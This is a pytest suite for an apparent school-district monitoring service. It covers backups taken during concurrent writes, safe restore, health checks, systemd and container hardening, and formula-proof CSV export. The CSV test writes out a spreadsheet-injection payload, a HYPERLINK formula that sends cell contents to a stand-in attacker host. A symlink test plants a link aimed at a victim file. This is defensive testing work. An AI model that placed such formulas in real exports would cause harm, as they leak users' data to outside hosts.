"""What a district's administrator runs the service with: backups taken while it writes, a restore
that puts the data back as it was, a health check for monitoring, the systemd units and the
container image, and CSV exports a spreadsheet cannot turn into formulas.

Real SQLite files, the real CLI (``Watcher``), real writer threads and processes, a real
``watcher run`` holding its lock. Times are moved by writing them into the database or by giving
the pure health functions a clock, never by waiting.
"""

from __future__ import annotations

import configparser
import csv
import gc
import io
import json
import os
import re
import shutil
import signal
import socket
import sqlite3
import subprocess
import sys
import threading
import time
from datetime import UTC, datetime, timedelta
from functools import partial
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from conftest import Watcher, deliver, sql, write_config
from test_sight import EmptySearch

from storage import open_database
from watcher.config import load_config
from watcher.service import health, service_pid
from watcher.service.job_targets import run_job, scan_source

ROOT = Path(__file__).resolve().parent.parent
DEPLOY = ROOT / "deploy"
PATIENCE = 60.0  # seconds: only a broken build waits this long
ROWS = 20  # rows per writer transaction in the backup test
HELD = 5  # the writer's transaction that is open, half written, while the backup runs


def database(watcher: Watcher) -> Path:
    return watcher.config.parent / "watcher.db"


def iso(moment: datetime) -> str:
    return moment.astimezone(UTC).isoformat(timespec="seconds")


def closed_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return sock.getsockname()[1]


def check(watcher: Watcher) -> tuple[int, list[str]]:
    result = watcher("status", "--check", ok=False)
    return result.exit_code, result.output.splitlines()


# ------------------------------------------------------------------------------------ backup


class Writer(threading.Thread):
    """Commits batches of ROWS audit rows plus a counter, each batch one transaction, through its
    own connection; batch HELD stops half written, its transaction open, until ``resume``."""

    def __init__(self, path: Path) -> None:
        super().__init__(name="test-writer")
        self.path = path
        self.paused = threading.Event()
        self.resume = threading.Event()
        self.stop = threading.Event()
        self.committed = 0
        self.error: BaseException | None = None

    def run(self) -> None:
        conn = sqlite3.connect(self.path, isolation_level=None, timeout=10)
        try:
            while not self.stop.is_set():
                self._batch(conn, self.committed)
                self.committed += 1
        except BaseException as exc:  # reported by the test
            self.error = exc
        finally:
            conn.close()

    def _batch(self, conn: sqlite3.Connection, batch: int) -> None:
        conn.execute("BEGIN IMMEDIATE")
        for row in range(ROWS):
            conn.execute(
                "INSERT INTO audit (at, actor, action, detail) VALUES (?, 'writer', 'test', ?)",
                [iso(datetime.now(UTC)), json.dumps({"batch": batch, "row": row})],
            )
            if batch == HELD and row == ROWS // 2:
                self.paused.set()
                self.resume.wait(PATIENCE)
        conn.execute(
            "INSERT INTO settings (key, value) VALUES ('test.batches', ?) "
            "ON CONFLICT (key) DO UPDATE SET value = excluded.value",
            [str(batch + 1)],
        )
        conn.execute("COMMIT")


def batches(path: Path) -> tuple[str | None, dict[int, int]]:
    """The writer's counter and its rows per batch, as a database file holds them."""
    counter = sql(path, "SELECT value FROM settings WHERE key = 'test.batches'")
    rows = sql(path, "SELECT json_extract(detail, '$.batch'), COUNT(*) FROM audit WHERE action = 'test' GROUP BY 1")
    return (counter[0][0] if counter else None), dict(rows)


def test_backup_while_a_writer_commits_is_one_consistent_owner_only_snapshot(tmp_path, watcher):
    """Attack: back up while another connection writes (as `watcher run` does), with a transaction
    half written during the backup and the last commits only in the -wal file. A file copy misses
    the -wal; a page-by-page copy without a snapshot mixes transactions."""
    watcher("init")
    db = database(watcher)
    writer = Writer(db)
    writer.start()
    try:
        assert writer.paused.wait(PATIENCE), writer.error
        naive = tmp_path / "naive-copy.db"
        shutil.copyfile(db, naive)  # what copying the file would have saved
        dest = tmp_path / "backups" / "nightly.db"
        umask = os.umask(0)  # owner-only whatever the umask
        try:
            result = watcher("backup", str(dest))
        finally:
            os.umask(umask)
        writer.resume.set()
        deadline = time.monotonic() + PATIENCE
        while writer.committed < HELD + 3 and writer.error is None and time.monotonic() < deadline:
            time.sleep(0.01)
    finally:
        writer.resume.set()
        writer.stop.set()
        writer.join(PATIENCE)
    assert writer.error is None and not writer.is_alive()

    assert re.fullmatch(rf"wrote {re.escape(str(dest))}: \d+\.\d MB, 0 people, 0 findings\n", result.output)
    assert sql(dest, "PRAGMA integrity_check") == [("ok",)]
    assert batches(dest) == (str(HELD), dict.fromkeys(range(HELD), ROWS))  # every commit before it, nothing after
    counter, live = batches(db)
    assert int(counter) >= HELD + 3 and set(live.values()) == {ROWS}  # the writer went on meanwhile
    try:  # the commits (and the schema too, when no connection has closed since `init`) were in the -wal
        in_file_copy = batches(naive)
    except sqlite3.OperationalError:  # no such table
        in_file_copy = (None, {})
    assert in_file_copy == (None, {})  # a file copy would have lost them

    assert os.stat(dest).st_mode & 0o777 == 0o600
    assert os.stat(dest.parent).st_mode & 0o777 == 0o700
    assert sql(dest, "PRAGMA journal_mode") == [("delete",)]  # one self-contained file
    assert sorted(p.name for p in dest.parent.iterdir()) == ["nightly.db"]  # no -wal, no partial file


def test_backup_never_overwrites_or_follows_a_link_unless_forced(tmp_path, watcher):
    """Attack: a file or a planted symlink already at the backup's name (pointing at a file the
    administrator owns); without --force nothing is touched, with --force the link itself is
    replaced and its target left alone."""
    watcher("people", "add", "--name", "Ana Ruiz", "--email", "ana@svusd.example")
    dest = tmp_path / "watcher-Mon.db"
    dest.write_text("last week's backup")
    refused = watcher("backup", str(dest), ok=False)
    assert refused.exit_code == 1
    assert refused.output == f"Error: {dest} already exists: give a new name, or --force to replace it\n"
    assert dest.read_text() == "last week's backup"

    victim = tmp_path / "victim.conf"
    victim.write_text("important")
    link = tmp_path / "planted.db"
    link.symlink_to(victim)
    assert watcher("backup", str(link), ok=False).exit_code == 1
    assert victim.read_text() == "important" and link.is_symlink()

    assert "1 people" in watcher("backup", "--force", str(link)).output
    assert victim.read_text() == "important" and not link.is_symlink()
    assert sql(link, "SELECT email FROM people") == [("ana@svusd.example",)]
    assert os.stat(link).st_mode & 0o777 == 0o600
    watcher("backup", "--force", str(dest))
    assert sql(dest, "SELECT COUNT(*) FROM people") == [(1,)]
    assert not [p for p in tmp_path.iterdir() if ".partial-" in p.name]


# ----------------------------------------------------------------------------------- restore


def restore(watcher: Watcher, backup: Path, *, ok: bool = True):
    """``watcher restore``, which needs the database closed by every other connection. CliRunner keeps
    each earlier command's frames, and the connection they opened, in a reference cycle; a real command
    is a process of its own."""
    gc.collect()
    return watcher("restore", str(backup), ok=ok)


def findings_and_people(watcher: Watcher) -> tuple[list, list]:
    return json.loads(watcher("findings", "--json").output), json.loads(watcher("people", "list", "--json").output)


KILLED_WRITE = """
import os, sqlite3, sys
conn = sqlite3.connect(sys.argv[1])
conn.execute("INSERT INTO settings (key, value) VALUES ('killed.write', 'committed')")
conn.commit()
os._exit(9)  # as kill -9: no checkpoint, the commit stays in the -wal file
"""


def test_restore_puts_back_the_data_as_at_backup_time_and_keeps_the_current_one(tmp_path, scanned):
    """Attack (on ourselves): restore over a database whose last commits are only in a -wal left
    by a killed process. That -wal must end up in the kept copy, and must not be replayed into the
    restored file, which SQLite would do with a -wal left beside it."""
    before = findings_and_people(scanned)
    assert before[0] and before[1]
    backup = tmp_path / "backup.db"
    scanned("backup", str(backup))

    dismissed = before[0][0]["id"]
    scanned("review", str(dismissed), "dismiss", "--by", "comms")
    scanned("people", "add", "--name", "Nuevo Maestro", "--email", "nuevo@svusd.example")
    db = database(scanned)
    subprocess.run([sys.executable, "-c", KILLED_WRITE, str(db)], check=False, timeout=PATIENCE)
    wal = db.with_name("watcher.db-wal")
    assert wal.stat().st_size > 0 and sql(db, "SELECT value FROM settings WHERE key = 'killed.write'")

    result = restore(scanned, backup)
    assert result.output.startswith(f"restored {db} from {backup}: ")
    assert findings_and_people(scanned) == before
    assert sql(db, "SELECT value FROM settings WHERE key = 'killed.write'") == []
    assert sql(db, "PRAGMA integrity_check") == [("ok",)]

    (kept,) = db.parent.glob("watcher.db.before-restore-*")
    assert f"the database it replaced is kept as {kept}" in result.output
    assert os.stat(kept).st_mode & 0o777 == 0o600
    assert sql(kept, "SELECT value FROM settings WHERE key = 'killed.write'") == [("committed",)]
    assert sql(kept, "SELECT status FROM findings WHERE id = ?", [dismissed]) == [("dismissed",)]
    assert sql(kept, "SELECT COUNT(*) FROM people WHERE email = 'nuevo@svusd.example'") == [(1,)]
    assert not kept.with_name(kept.name + "-wal").exists()


def test_restore_refuses_while_watcher_run_serves_the_database(tmp_path, enrolled):
    """Attack: restore under a running service, which would go on writing to the replaced file."""
    enrolled("backup", str(tmp_path / "backup.db"))
    log = open(tmp_path / "service.log", "a")  # noqa: SIM115 - the process writes it
    with log:
        service = subprocess.Popen(
            [sys.executable, "-c", "from watcher.cli import main; main()", "--config", str(enrolled.config), "run"],
            stdout=log,
            stderr=log,
        )
    try:
        config = load_config(str(enrolled.config))
        deadline = time.monotonic() + PATIENCE
        while not service_pid(config) and service.poll() is None and time.monotonic() < deadline:
            time.sleep(0.05)
        assert service_pid(config) == service.pid, (tmp_path / "service.log").read_text()
        refused = restore(enrolled, tmp_path / "backup.db", ok=False)
    finally:
        service.send_signal(signal.SIGTERM)
        service.wait(timeout=PATIENCE)
    assert refused.exit_code == 1
    assert refused.output == (
        f"Error: watcher run is serving {database(enrolled)} (pid {service.pid}): stop it first, then restore\n"
    )
    assert not list(tmp_path.glob("watcher.db.before-restore-*"))


def text_file(path: Path, good: Path) -> str:
    path.write_text("name,email\n")
    return "cannot copy .*: file is not a database"


def damaged(path: Path, good: Path) -> str:
    data = bytearray(good.read_bytes())
    page = 4096
    for start in range(2 * page, len(data), 3 * page):  # every third page after the first two, scribbled over
        data[start : start + page] = bytes(range(256)) * (page // 256)
    path.write_bytes(bytes(data))
    return "is damaged \\(integrity check: |is not a usable database: |cannot copy .*: "


def foreign(path: Path, good: Path) -> str:
    conn = sqlite3.connect(path)
    conn.execute("CREATE TABLE people (id INTEGER PRIMARY KEY, email TEXT)")
    conn.commit()
    conn.close()
    return "is not an Identity Watch database"


def newer(path: Path, good: Path) -> str:
    shutil.copyfile(good, path)
    sql(
        path, "INSERT INTO _sqlite_migrations (migration_set, name, applied_at) VALUES ('identity_watch', '9999_x', '')"
    )
    return r"was made by a newer version of Identity Watch \(9999_x\): upgrade first"


@pytest.mark.parametrize("make", [text_file, damaged, foreign, newer], ids=lambda f: f.__name__)
def test_restore_checks_the_backup_before_touching_anything(tmp_path, watcher, make):
    """Attack: restore from a file that is not a whole Identity Watch backup of this version."""
    watcher("people", "add", "--name", "Ana Ruiz", "--email", "ana@svusd.example")
    good = tmp_path / "good.db"
    watcher("backup", str(good))
    watcher("people", "add", "--name", "Bo Li", "--email", "bo@svusd.example")
    bad = tmp_path / "bad.db"
    expected = make(bad, good)
    result = restore(watcher, bad, ok=False)
    assert result.exit_code == 1 and re.search(expected, result.output), result.output
    assert len(result.output.strip().splitlines()) == 1
    assert json.loads(watcher("people", "list", "--json").output)[1]["email"] == "bo@svusd.example"
    assert not list(tmp_path.glob("watcher.db.*restore*")) and not list(tmp_path.glob(".watcher.db.*"))


# ------------------------------------------------------------------------------ status --check


def sent_digest(watcher: Watcher) -> None:
    watcher("digest", "--send", ok=False)  # queued in any case; delivered when the transport works


def test_check_is_ok_after_a_scan_and_the_digest(scanned):
    sent_digest(scanned)
    code, lines = check(scanned)
    assert (code, len(lines)) == (0, 1), lines
    assert re.fullmatch(r"OK: 2 sources scanning; outbox: 0 waiting, none overdue; digest \d{4}-W\d\d queued", lines[0])


def test_check_is_critical_when_a_sources_last_scan_failed(tmp_path, roster, mastodon):
    """State: the Bluesky AppView refuses connections during the service's scan job."""
    config = write_config(tmp_path, f"http://127.0.0.1:{closed_port()}/bsky", mastodon.base_url)
    watcher = Watcher(config)
    loaded = load_config(str(config))
    run_job(loaded, "scan:bluesky", partial(scan_source, source="bluesky"), lambda: False)
    run_job(loaded, "scan:mastodon", partial(scan_source, source="mastodon"), lambda: False)
    sent_digest(watcher)
    code, lines = check(watcher)
    assert code == health.CRITICAL, lines
    assert len(lines) == 1 and lines[0].startswith("CRITICAL: source bluesky: its last scan failed: "), lines


def test_check_warns_when_a_source_is_degraded(tmp_path, roster, world):
    """State: search answers every query with nothing, as a blind AppView does."""
    with EmptySearch(world.actors, world.images) as server:
        watcher = Watcher(write_config(tmp_path, server.base_url))
        watcher("scan")
    sent_digest(watcher)
    code, lines = check(watcher)
    assert code == health.WARNING
    assert lines == [
        "WARNING: source bluesky: degraded in its last scan: search did not return any of its 2 known accounts"
        + lines[0].split("known accounts", 1)[1]
    ]


def test_check_is_critical_when_the_outbox_is_stuck_and_warns_on_dead_messages(queued):
    """State: the SMTP server is down, alerts wait; then one alert is dead, acknowledged, retried and dies again."""
    watcher = queued
    text = watcher.config.read_text().replace('transport = "maildir"', 'transport = "smtp"')
    watcher.config.write_text(
        text.replace("[digest]", f'[email.smtp]\nhost = "127.0.0.1"\nport = {closed_port()}\n\n[digest]')
    )
    deliver(watcher)  # the scan's last step: it finds the server down
    sent_digest(watcher)
    db = database(watcher)
    waiting = sql(db, "SELECT id FROM outbox WHERE status = 'pending' ORDER BY id")
    assert len(waiting) > 1
    assert check(watcher)[0] == health.OK  # queued just now: not stuck yet

    sql(db, "UPDATE outbox SET created_at = ?", [iso(datetime.now(UTC) - timedelta(hours=2))])
    code, lines = check(watcher)
    assert code == health.CRITICAL and len(lines) == 1
    assert lines[0].startswith(
        f"CRITICAL: outbox: {len(waiting)} messages due for more than 1 h and not delivered (oldest: #{waiting[0][0]}, "
    )
    assert "; last error: " in lines[0]

    dead = waiting[0][0]
    sql(db, "UPDATE outbox SET status = CASE id WHEN ? THEN 'dead' ELSE 'sent' END", [dead])
    assert check(watcher) == (
        health.WARNING,
        [
            f"WARNING: outbox: 1 dead message not acknowledged (#{dead}): "
            "`watcher outbox retry` sends again, `watcher outbox ack` accepts the loss"
        ],
    )
    assert watcher("outbox", "ack", str(dead), "--by", "it-desk").output == "1 dead messages acknowledged\n"
    assert check(watcher)[0] == health.OK
    watcher("outbox", "retry", str(dead))
    assert check(watcher)[0] == health.OK  # due since the retry, not since it was first queued
    sql(db, "UPDATE outbox SET status = 'dead' WHERE id = ?", [dead])
    assert check(watcher)[0] == health.WARNING  # died again after the retry: acknowledged no more
    actions = sql(db, "SELECT actor, action FROM audit WHERE outbox_id = ? ORDER BY id", [dead])
    assert [a for a in actions if a[1] != "email_sent"][:2] == [
        ("it-desk", "outbox_dead_acknowledged"),
        (actions[-1][0], "outbox_retried"),
    ]


def zone_past_monday_morning() -> str:
    """A time zone where this week's Monday 00:00 is more than 8 hours ago, whatever the time now."""
    for name in ("America/Los_Angeles", "Pacific/Kiritimati"):
        local = datetime.now(ZoneInfo(name))
        if local.weekday() > 0 or local.hour >= 8:
            return name
    raise AssertionError("unreachable: the two zones are 24 hours apart")


def test_check_warns_when_last_weeks_digest_was_missed(scanned):
    """State: the digest was due this Monday 00:00 and nothing queued it (the service was down)."""
    text = scanned.config.read_text().replace('"America/Los_Angeles"', f'"{zone_past_monday_morning()}"')
    scanned.config.write_text(text + 'weekday = "mon"\ntime = "00:00"\n')
    code, lines = check(scanned)
    assert code == health.WARNING and len(lines) == 1
    assert re.fullmatch(
        r"WARNING: digest: the digest of \d{4}-W\d\d was due \S+T00:00\S+ and is not queued "
        r"\(`watcher digest --send` sends it\)",
        lines[0],
    )
    sent_digest(scanned)
    assert check(scanned)[0] == health.OK


def test_check_warns_when_a_source_has_not_completed_a_scan_for_two_intervals(scanned):
    """State: the service stopped three days ago; scans run every 24 h."""
    sent_digest(scanned)
    then = datetime.now(UTC) - timedelta(days=3)
    sql(database(scanned), "UPDATE scan_runs SET started_at = ?, finished_at = ?", [iso(then), iso(then)])
    code, lines = check(scanned)
    assert code == health.WARNING
    assert [line.split(" (")[0] for line in lines] == [
        "WARNING: source bluesky: no complete scan for 72 h",
        "WARNING: source mastodon: no complete scan for 72 h",
    ]
    assert f"(it scans every 24 h; last {iso(then)})" in lines[0]


def test_check_is_unknown_without_a_database(tmp_path, appview):
    config = write_config(tmp_path, appview.base_url)
    result = Watcher(config)("status", "--check", ok=False)
    assert (result.exit_code, result.output) == (health.UNKNOWN, f"UNKNOWN: no database at {tmp_path / 'watcher.db'}\n")
    assert not (tmp_path / "watcher.db").exists()


def test_thresholds_are_decided_on_the_clock_given(scanned):
    """The pure part: the same facts judged at moments either side of each threshold."""
    sent_digest(scanned)
    now = datetime.now(UTC)
    # The session's scan ran a while ago: here it has just finished, so that the thresholds are hours from now.
    sql(database(scanned), "UPDATE scan_runs SET started_at = ?, finished_at = ?", [iso(now), iso(now)])
    db = open_database(database(scanned))
    try:
        facts = health.gather(load_config(str(scanned.config)), db, now)
    finally:
        db.close()
    assert health.assess(facts, now) == []
    message = {"id": 7, "kind": "alert", "created_at": iso(now), "next_attempt_at": None, "last_error": None}
    waiting = facts | {"waiting": [message]}
    assert health.assess(waiting, now + timedelta(minutes=59)) == []
    assert [p.severity for p in health.assess(waiting, now + timedelta(minutes=61))] == [health.CRITICAL]
    retrying = facts | {"waiting": [message | {"next_attempt_at": iso(now + timedelta(hours=2))}]}
    assert health.assess(retrying, now + timedelta(minutes=179)) == []  # its retry is due in 2 h: waiting is normal

    digest = facts | {"digest": {"week": "2026-W48", "due_at": iso(now), "queued": False}}
    assert health.assess(digest, now + timedelta(hours=5, minutes=59)) == []
    assert [p.text[:24] for p in health.assess(digest, now + timedelta(hours=6, minutes=1))] == [
        "digest: the digest of 20"
    ]

    late = now + timedelta(hours=49)  # 2 × 24 h + 1 h after the scans
    assert health.assess(facts, late - timedelta(minutes=5)) == []
    assert {p.text.split(":")[0] for p in health.assess(facts, late + timedelta(minutes=5))} == {
        "source bluesky",
        "source mastodon",
    }
    crashed = facts | {"jobs": [{"job": "purge", "last_status": "error", "last_error": "disk I/O error"}]}
    assert [p.line() for p in health.assess(crashed, now)] == [
        "WARNING: job purge: crashed in its last run: disk I/O error"
    ]


# ----------------------------------------------------------------------------------- deploy


def unit(name: str) -> configparser.ConfigParser:
    parser = configparser.ConfigParser(strict=False, interpolation=None, delimiters=("=",))
    parser.optionxform = str  # systemd keys are case-sensitive
    parser.read(DEPLOY / name, encoding="utf-8")
    return parser


def test_the_systemd_unit_runs_watcher_sandboxed_as_its_own_user():
    """Attack surface: a service that runs as root, may write anywhere, or keeps capabilities."""
    service = unit("identity-watch.service")["Service"]
    assert service["ExecStart"].split()[-1] == "run"
    assert service.get("DynamicUser") == "yes" or service.get("User") not in (None, "", "root")
    assert service["User"] == "identity-watch"
    expected = {
        "ProtectSystem": "strict",
        "ProtectHome": "true",
        "PrivateTmp": "true",
        "NoNewPrivileges": "true",
        "UMask": "0077",
        "RestrictAddressFamilies": "AF_INET AF_INET6 AF_UNIX",
        "SystemCallFilter": "@system-service",
        "CapabilityBoundingSet": "",
        "Restart": "on-failure",
        "StateDirectory": "identity-watch",
        "ReadWritePaths": "/var/lib/identity-watch",
    }
    assert {key: service.get(key) for key in expected} == expected
    assert int(service["TimeoutStopSec"]) > 60  # watcher run's own bound after SIGTERM (docs/operating.md)

    backup = unit("identity-watch-backup.service")["Service"]
    assert backup["User"] == service["User"] and backup["DynamicUser"] == "yes"  # same user: it can read the data
    assert " backup --force " in backup["ExecStart"] and backup["UMask"] == "0077"
    assert unit("identity-watch-backup.timer")["Timer"]["OnCalendar"] == "*-*-* 02:30:00"


@pytest.mark.skipif(not shutil.which("systemd-analyze"), reason="systemd-analyze is not installed here")
def test_systemd_analyze_verifies_the_units(tmp_path):
    """The units as systemd reads them: unknown keys, bad values, a timer without its service."""
    for name in ("identity-watch.service", "identity-watch-backup.service", "identity-watch-backup.timer"):
        text = (DEPLOY / name).read_text(encoding="utf-8")  # verify wants the program to exist
        (tmp_path / name).write_text(
            text.replace("/opt/identity-watch/bin/watcher", shutil.which("true") or "/bin/true")
        )
    result = subprocess.run(
        ["systemd-analyze", "verify", "--man=no", *sorted(str(p) for p in tmp_path.iterdir())],
        capture_output=True,
        text=True,
        timeout=PATIENCE,
        check=False,
    )
    assert result.returncode == 0 and not result.stderr.strip(), result.stderr


def test_the_container_image_runs_watcher_as_a_non_root_user_with_data_on_a_volume():
    """Checked as text: the image cannot be built here (no base image without a registry)."""
    lines = [line.strip() for line in (DEPLOY / "Containerfile").read_text(encoding="utf-8").splitlines()]
    instructions = [line for line in lines if line and not line.startswith("#")]
    users = [line.split()[1] for line in instructions if line.startswith("USER ")]
    assert users and users[-1].split(":")[0] not in ("root", "0")
    assert 'VOLUME ["/data"]' in instructions
    assert 'ENTRYPOINT ["watcher", "run"]' in instructions
    assert any(line.startswith("HEALTHCHECK ") and '"status", "--check"]' in line for line in instructions)


# -------------------------------------------------------------------------------------- CSV


TRIGGERS = ["=", "+", "-", "@", "\t", "\r", " =", "\uff1d"]  # OWASP's list, then after a space, full width
FORMULA = set("=+-@\t\r\uff1d")


def test_every_findings_csv_cell_is_formula_proof(scanned):
    """Attack: a formula in every column of the export, written where each comes from: a profile
    (handle, name, URL, source), the roster (e-mail), and our own columns (kind, rule, times, numbers)."""
    db = database(scanned)
    (finding, profile, person), *_ = sql(
        db, "SELECT id, profile_id, person_id FROM findings WHERE person_id IS NOT NULL ORDER BY id"
    )
    for trigger in TRIGGERS:
        payload = trigger + 'HYPERLINK("http://evil.example/?leak="&A1,"open")'
        sql(db, "UPDATE people SET email = ? WHERE id = ?", [payload + "@svusd.example", person])
        sql(
            db,
            "UPDATE profiles SET source = ?, handle = ?, display_name = ?, profile_url = ? WHERE id = ?",
            [payload, payload, payload, payload, profile],
        )
        sql(
            db,
            "UPDATE findings SET kind = ?, status = ?, evidence = ?, first_seen = ?, resolved_at = ?, "
            "reviewed_at = ?, score = ?, missing_count = ? WHERE id = ?",
            [payload, payload, json.dumps({"rule": payload}), payload, payload, payload, payload, payload, finding],
        )
        rows = list(csv.reader(io.StringIO(scanned("findings", "--csv").output)))
        assert not [cell for r in rows for cell in r if cell.lstrip(" ")[:1] in FORMULA or cell[:1] in FORMULA]
        (row,) = [r for r in rows[1:] if r[0] == str(finding)]
        assert all(cell.startswith("'") for cell in row[1:]), (trigger, row)
        assert row[4] == "'" + payload.replace("\t", "?").replace("\r", "?")  # the text itself is kept
